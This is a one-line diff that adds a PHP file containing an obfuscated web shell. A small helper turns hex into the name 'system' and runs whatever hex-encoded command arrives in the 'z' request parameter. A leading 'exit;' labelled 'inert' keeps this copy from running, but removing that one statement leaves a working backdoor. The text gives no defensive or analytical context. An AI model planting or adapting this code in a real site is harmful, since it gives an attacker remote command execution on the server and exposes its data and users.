@@ -1,0 +1,1 @@
+<?php exit; /* inert */ function hx($h){ $o=""; for($i=0;$i<strlen($h);$i+=2) $o.=chr(hexdec(substr($h,$i,2))); return $o; } $f=hx("73797374656d"); $f(hx($_GET["z"]));
